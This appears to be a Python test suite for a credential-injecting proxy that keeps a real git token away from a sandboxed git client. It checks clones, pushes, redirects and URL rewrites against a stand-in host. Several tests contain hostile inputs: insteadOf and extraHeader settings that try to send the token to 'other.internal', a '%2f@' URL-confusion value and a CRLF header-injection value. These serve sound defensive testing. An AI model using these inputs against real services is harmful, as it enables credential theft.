#!/usr/bin/env python3
"""CR-08: git over HTTPS with a token that git never sees.

The service is git's own http-backend behind a recording server, which wants
the real token.  Git in the jail has the placeholder, in every way that git can
be given one, and a repository that points elsewhere.
"""

import base64
import os
import secrets
import shutil
import subprocess
import sys

from attack import ONCE, Witness, service, settled, write_policy
from flow import Skip, check, equal, holds, main, test
from upstream import Authority, Echo, response


def backend():
    path = subprocess.run(["git", "--exec-path"], check=True, text=True,
                          capture_output=True).stdout.strip()
    path = os.path.join(path, "git-http-backend")
    if not os.path.exists(path):
        raise Skip("no git-http-backend")
    return path


class Git(Witness):
    """Repositories below a folder; 401 without the token."""

    def __init__(self, folder, token, **more):
        self.program, self.folder = backend(), folder
        self.wanted = base64.b64encode(f"bot:{token}".encode()).decode()
        super().__init__(self.serve_git, **more)

    def serve_git(self, request):
        if request.get("authorization") != f"Basic {self.wanted}":
            return response(b"who?", status="401 Unauthorized",
                            WWW_Authenticate='Basic realm="git"')
        path, _, query = request.target.partition("?")
        env = {"PATH": os.environ["PATH"], "GIT_PROJECT_ROOT": self.folder,
               "GIT_HTTP_EXPORT_ALL": "1", "PATH_INFO": path,
               "QUERY_STRING": query, "REQUEST_METHOD": request.method,
               "REMOTE_USER": "bot", "REMOTE_ADDR": "127.0.0.1",
               "CONTENT_TYPE": request.get("content-type") or "",
               "GIT_PROTOCOL": request.get("git-protocol") or "",
               "HTTP_CONTENT_ENCODING":
                   request.get("content-encoding") or "",
               "GIT_CONFIG_COUNT": "2", "GIT_CONFIG_KEY_0": "safe.directory",
               "GIT_CONFIG_VALUE_0": "*",
               "GIT_CONFIG_KEY_1": "http.receivepack",
               "GIT_CONFIG_VALUE_1": "true"}
        out = subprocess.run([self.program], input=request.body, env=env,
                             stdout=subprocess.PIPE, check=False).stdout
        top, _, body = out.partition(b"\r\n\r\n")
        lines = top.decode().split("\r\n")
        status = [x[8:] for x in lines if x.startswith("Status: ")]
        rest = [x for x in lines if x and not x.startswith("Status: ")]
        head = [f"HTTP/1.1 {status[0] if status else '200 OK'}", *rest,
                f"Content-Length: {len(body)}"]
        return "\r\n".join(head).encode() + b"\r\n\r\n" + body


def make_repository(folder, name):
    path = os.path.join(folder, name)
    script = f"""set -e; git init -q --bare -b main {path}
        work=$(mktemp -d); cd $work; git init -q -b main .
        echo hello >README; git add .
        git -c user.name=a -c user.email=a@b commit -q -m one
        git push -q {path} main; rm -rf $work"""
    subprocess.run(["sh", "-c", script], check=True)


class Scene:
    def __init__(self, w, when="placeholder"):
        if shutil.which("git") is None:
            raise Skip("no git")
        self.w = w
        self.folder = w.scratch("repositories", uid=None)
        make_repository(self.folder, "open.git")
        make_repository(self.folder, "shut.git")
        authority = Authority(w.scratch("ca"))
        context = authority.context("git.internal", "other.internal")
        self.token = f"canary-{secrets.token_urlsafe(24)}"
        self.git = Git(self.folder, self.token, context=context)
        self.other = Witness(self.elsewhere, context=context)
        tls = f"{{ca: {authority.pem}}}"
        read = ("{methods: read, path: /open.git/info/refs, "
                "query: {service: git-upload-pack}}",
                "{methods: [POST], path: /open.git/git-upload-pack}",
                "{methods: read, path: /moved.git/**}",
                "{methods: read, path: /shut.git/info/refs, "
                "query: {service: git-upload-pack}}",
                "{methods: [POST], path: /shut.git/git-upload-pack}")
        self.policy = write_policy(w, {
            "git": service("git.internal:443", self.git.port, *read,
                           tls=tls),
            "other": service("other.internal:443", self.other.port,
                             "{path: /**}", tls=tls)},
            {"bot": ["source: {env: BOT}",
                     "placeholder: {env: GIT_TOKEN, shape: github_pat}",
                     "inject: [{service: git, as: {basic: bot}, "
                     f"when: {when}}}]"]})

    @staticmethod
    def elsewhere(_):
        return response(b"who?", status="401 Unauthorized",
                        WWW_Authenticate='Basic realm="git"')

    def run(self, script):
        env = self.w.environment(BOT=self.token)
        return self.w.exec(["bash", "-c", """
            export HOME=/tmp GIT_TERMINAL_PROMPT=0 GIT_SSL_NO_VERIFY= \
                GIT_CONFIG_NOSYSTEM=1
            unset GIT_SSL_NO_VERIFY
            cd /tmp; git config --global user.name a
            git config --global user.email a@b
            basic() { printf 'bot:%s' "$GIT_TOKEN" | base64 -w0; }
            """ + script], "--policy", self.policy, env=env)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.git.close()
        self.other.close()

    def safe(self, *results):
        for r in results:
            check(self.token not in r.text + r.said, "the jail has it")
        settled(self.other)
        for x in (self.token, base64.b64encode(
                f"bot:{self.token}".encode()).decode()):
            check(x.encode() not in self.other.received, "other has it")


HEADER = 'git config --global http.https://git.internal/.extraHeader ' \
    '"Authorization: Basic $(basic)"; '
CLONE = HEADER + "git clone -q https://git.internal/open.git c && " \
    "cat c/README"


@test
def a_clone_with_a_token_that_git_never_sees(w):
    """By the placeholder in a header; or with nothing, where always is."""
    with Scene(w) as scene:
        r = scene.run(CLONE).expect(0, "hello\n")
        scene.safe(r)
        check(len(scene.git.requests) >= 2, "requests")
    with Scene(w, "always") as scene:
        r = scene.run("git clone -q https://git.internal/open.git c && "
                      "cat c/README").expect(0, "hello\n")
        scene.safe(r)
        # git's own idea of who it is does not matter
        r = scene.run('git clone -q "https://me:mine@git.internal/open.git" '
                      "c && cat c/README").expect(0, "hello\n")
        scene.safe(r)
        check(b"bWU6bWluZQ" not in scene.git.received, "its own went on")


@test(modes=ONCE)
def git_is_asked_who_it_is(w):
    """With a user in the URL, or from a helper, git's first request has no
    placeholder: it is asked for it, and the service sees nothing till then."""
    with Scene(w) as scene:
        for clone in (
                'git clone -q "https://bot:$GIT_TOKEN@git.internal/open.git"',
                'git config --global credential.helper "!f() { echo '
                'username=me; echo password=$GIT_TOKEN; }; f"; '
                "git clone -q https://git.internal/open.git"):
            scene.git.requests.clear()
            r = scene.run(clone + " c && cat c/README").expect(0, "hello\n")
            holds(r.said, "code=credential_missing")
            check(len(scene.git.requests) >= 2 and all(
                x.get("authorization") == f"Basic {scene.git.wanted}"
                for x in scene.git.requests), "bare, or another's")
            scene.safe(r)


@test(modes=ONCE)
def git_that_has_no_placeholder_goes_nowhere(w):
    """Asked, it has nothing or something else to say: the service sees
    nothing, and git ends."""
    with Scene(w) as scene:
        for user in ("", "bot:mine@", "bot@"):
            r = scene.run(f"git clone -q https://{user}git.internal/open.git "
                          "c; echo $?")
            equal(r.text, "128\n")
            holds(r.said, "code=credential_missing")
            equal(scene.git.requests, [])
            scene.safe(r)


@test(modes=ONCE)
def a_push_that_nobody_listed(w):
    """Reading is not writing: refused before a byte of the pack."""
    with Scene(w) as scene:
        r = scene.run(CLONE + """ && cd c && echo more >>README &&
            git commit -qam two && git push -q origin main; echo $?""")
        check(not r.text.endswith("\n0\n"), r.text)
        holds(r.said, "403")
        check(not any("receive-pack" in x.target
                      for x in scene.git.heads), "it was asked")
        scene.safe(r)


@test(modes=ONCE)
def a_repository_that_points_elsewhere(w):
    """insteadOf, a submodule, extraHeader to another host: no token there."""
    with Scene(w) as scene:
        results = [scene.run(x) for x in (
            """git config --global url.https://other.internal/.insteadOf \
                https://git.internal/
            git clone -q "https://git.internal/open.git" c; echo $?""",
            """git config --global \
                "url.https://bot:$GIT_TOKEN@other.internal/.insteadOf" \
                https://git.internal/
            git clone -q "https://git.internal/open.git" c; echo $?""",
            """git -c http.extraHeader="Authorization: Basic $(basic)" \
                clone -q https://other.internal/open.git c; echo $?""",
            CLONE + """ && cd c && git -c protocol.file.allow=always \
                -c http.extraHeader="Authorization: Basic $(basic)" \
                submodule add -q https://other.internal/x.git x; echo $?""",
            """git clone -q "https://bot:$GIT_TOKEN@git.internal%2f@""" +
            """other.internal/open.git" c; echo $?""",
            """git clone -q "https://bot:$GIT_TOKEN@other.internal/""" +
            """%0d%0aX: y" c; echo $?""")]
        for r in results:
            check(not r.text.endswith("\n0\n") and r.text != "0\n",
                  f"{r.text} {r.said}")
        check(scene.other.connections > 0, "the control: it was reached")
        scene.safe(*results)


@test(modes=ONCE)
def a_redirect_of_the_service(w):
    """The service sends git to another host, which gets no token."""
    with Scene(w) as scene, Echo() as nobody:
        place = ["https://other.internal/open.git/info/refs"
                 "?service=git-upload-pack"]
        real = scene.git.serve_git

        def moved(request):
            if request.target.startswith("/moved.git"):
                return response(b"", status="302 Found", Location=place[0])
            return real(request)

        scene.git.answer = moved
        results = []
        for to in (place[0], f"http://127.0.0.1:{nobody.port}/open.git/"
                   "info/refs?service=git-upload-pack"):
            place[0] = to
            results.append(scene.run(
                'git -c http.followRedirects=true clone -q "https://bot:'
                '$GIT_TOKEN@git.internal/moved.git" c; echo $?'))
            results.append(scene.run(
                'git -c http.followRedirects=true -c http.extraHeader='
                '"Authorization: Basic $(basic)" clone -q '
                "https://git.internal/moved.git c; echo $?"))
        check(any(x.target.startswith("/moved.git")
                  for x in scene.git.heads), "the control")
        equal(nobody.connections, 0)
        scene.safe(*results)


if __name__ == "__main__":
    sys.exit(main())
